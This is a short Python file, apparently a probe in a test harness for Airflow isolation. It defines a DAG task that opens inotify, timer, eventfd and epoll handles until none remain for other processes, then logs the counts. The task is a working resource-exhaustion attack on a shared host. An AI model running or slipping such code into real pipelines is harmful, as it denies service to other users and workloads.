"""Takes as many watches of folders, timers and event counters as there are, so that none are left for others."""

import ctypes
import os

from airflow_attack import attack, libc, tried, wait


def work() -> None:
    held = {"inotify": 0, "timer": 0, "eventfd": 0, "epoll": 0}
    for name, make in (
        ("inotify", libc.inotify_init),
        ("timer", lambda: libc.timerfd_create(ctypes.c_int(1), 0)),
        ("eventfd", lambda: libc.eventfd(0, 0)),
        ("epoll", lambda: libc.epoll_create(1)),
    ):
        while make() >= 0:
            held[name] += 1
        tried(f"{name}: {held[name]}")
        os.closerange(10, 1 << 16)
    wait(0.5)


dag = attack(work)
